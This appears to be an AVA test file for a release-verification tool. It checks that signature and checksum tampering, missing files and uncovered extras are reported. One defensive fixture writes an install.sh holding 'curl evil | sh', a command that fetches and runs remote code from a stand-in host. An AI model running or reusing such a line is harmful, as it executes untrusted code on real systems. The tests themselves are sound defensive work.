import test from 'ava';
import { execa } from 'execa';
import { appendFile, mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { signRelease } from '../../src/release/sign.js';
import { formatVerifyReport, verifyRelease, type VerifyFailure } from '../../src/release/verify.js';
import { makeKey, makeReleaseDir } from '../helpers/release-dir.js';


async function signedRelease() {
  const dir = await makeReleaseDir();
  const key = await makeKey();
  await signRelease(dir, key.privateKey);
  return { dir, ...key };
}

function reasons(failures: VerifyFailure[]): string[] {
  return failures.map((failure) => `${failure.file}: ${failure.reason}`).sort();
}

test('a tampered tarball fails its checksum and its own signature', async (t) => {
  const { dir, publicKey } = await signedRelease();
  await appendFile(join(dir, 'debian-jitsi-systemd.tar.zst'), 'x');
  const report = await verifyRelease(dir, [publicKey]);
  t.deepEqual(reasons(report.failures), ['debian-jitsi-systemd.tar.zst.asc: bad signature', 'debian-jitsi-systemd.tar.zst: checksum mismatch']);
  t.regex(formatVerifyReport(report), /FAIL  debian-jitsi-systemd\.tar\.zst: checksum mismatch: SHA-256 is [0-9a-f]{64}, SHA256SUMS says [0-9a-f]{64}\n/);
  t.regex(formatVerifyReport(report), /2 problems found\n$/);
});

test('an edited SHA256SUMS fails its signature and the edited line', async (t) => {
  const { dir, publicKey } = await signedRelease();
  const sums = await readFile(join(dir, 'SHA256SUMS'), 'utf8');
  await writeFile(join(dir, 'SHA256SUMS'), sums.replace(/^[0-9a-f]/, (c) => (c === '0' ? '1' : '0')));
  t.deepEqual(reasons((await verifyRelease(dir, [publicKey])).failures), ['SHA256SUMS.gpg: bad signature', 'debian-jitsi-systemd.nspawn: checksum mismatch']);
});

test('a release signed by another key reports an unknown key everywhere', async (t) => {
  const { dir } = await signedRelease();
  const stranger = await makeKey('Stranger');
  const report = await verifyRelease(dir, [stranger.publicKey]);
  t.deepEqual(reasons(report.failures), [
    'SHA256SUMS.gpg: unknown key',
    'debian-jitsi-systemd.nspawn.asc: unknown key',
    'debian-jitsi-systemd.packages.asc: unknown key',
    'debian-jitsi-systemd.tar.zst.asc: unknown key',
  ]);
  t.regex(report.failures[0].detail, /made by key [0-9A-F]{16}, which is not among the trusted keys/);
});

test('missing files are named: artifact, its signature, SHA256SUMS.gpg, SHA256SUMS', async (t) => {
  const { dir, publicKey } = await signedRelease();
  await rm(join(dir, 'debian-jitsi-systemd.packages'));
  await rm(join(dir, 'debian-jitsi-systemd.nspawn.asc'));
  await rm(join(dir, 'SHA256SUMS.gpg'));
  t.deepEqual(reasons((await verifyRelease(dir, [publicKey])).failures), [
    'SHA256SUMS.gpg: missing file',
    'debian-jitsi-systemd.nspawn.asc: missing file',
    'debian-jitsi-systemd.packages: missing file',
  ]);
  await rm(join(dir, 'SHA256SUMS'));
  t.deepEqual(reasons((await verifyRelease(dir, [publicKey])).failures), [
    'SHA256SUMS: missing file',
    'debian-jitsi-systemd.nspawn.asc: missing file',
    'debian-jitsi-systemd.packages: missing file',
  ]);
});

test('an artifact added after signing is not listed and has no signature', async (t) => {
  const { dir, publicKey } = await signedRelease();
  await writeFile(join(dir, 'extra.tar.xz'), 'smuggled');
  t.deepEqual(reasons((await verifyRelease(dir, [publicKey])).failures), ['extra.tar.xz.asc: missing file', 'extra.tar.xz: file not listed']);
});

test('a garbage signature and a malformed SHA256SUMS line are reported', async (t) => {
  const { dir, publicKey } = await signedRelease();
  await writeFile(join(dir, 'debian-jitsi-systemd.packages.asc'), 'this is not a signature');
  await appendFile(join(dir, 'SHA256SUMS'), 'garbage line\n');
  const failures = (await verifyRelease(dir, [publicKey])).failures;
  t.deepEqual(reasons(failures), ['SHA256SUMS.gpg: bad signature', 'SHA256SUMS:4: malformed', 'debian-jitsi-systemd.packages.asc: bad signature']);
  t.regex(failures.find((f) => f.file.endsWith('.packages.asc'))!.detail, /not an OpenPGP signature/);
});

test('a good release verifies with several trusted keys, one of them right', async (t) => {
  const { dir, publicKey } = await signedRelease();
  const other = await makeKey('Other');
  const report = await verifyRelease(dir, [other.publicKey, publicKey]);
  t.deepEqual(report.failures, []);
  t.regex(formatVerifyReport(report), /release verified\n$/);
});

test('a listed file that is not named like an artifact is checked, not called missing', async (t) => {
  const { dir, publicKey, privateKey } = await signedRelease();
  const { signBytes } = await import('../../src/release/signatures.js');
  await writeFile(join(dir, 'NOTES.txt'), 'release notes\n');
  const sums = (await readFile(join(dir, 'SHA256SUMS'), 'utf8')) + `${'0'.repeat(64)} *NOTES.txt\n`;
  await writeFile(join(dir, 'SHA256SUMS'), sums);
  await writeFile(join(dir, 'SHA256SUMS.gpg'), await signBytes(Buffer.from(sums), privateKey));
  t.deepEqual(reasons((await verifyRelease(dir, [publicKey])).failures), ['NOTES.txt: checksum mismatch']);
  await rm(join(dir, 'NOTES.txt'));
  t.deepEqual(reasons((await verifyRelease(dir, [publicKey])).failures), ['NOTES.txt: missing file']);
});

test('anything a signature does not cover is a failure: extra files, folders, links, FIFOs (and verify does not read them)', async (t) => {
  const { dir, publicKey } = await signedRelease();
  await writeFile(join(dir, 'install.sh'), '#!/bin/sh\ncurl evil | sh\n');
  await mkdir(join(dir, 'keys'));
  await symlink('/dev/zero', join(dir, 'evil.packages'));
  await execa('mkfifo', [join(dir, 'pipe.nspawn')]);
  const report = await verifyRelease(dir, [publicKey]);
  t.deepEqual(reasons(report.failures), ['evil.packages: not covered', 'install.sh: not covered', 'keys: not covered', 'pipe.nspawn: not covered']);
  const text = formatVerifyReport(report);
  t.regex(text, /FAIL  install\.sh: not covered: neither an artifact .* nor a signature/);
  t.regex(text, /FAIL  evil\.packages: not covered: a symbolic link \(to \/dev\/zero\)/);
  t.regex(text, /4 problems found\n$/);
});
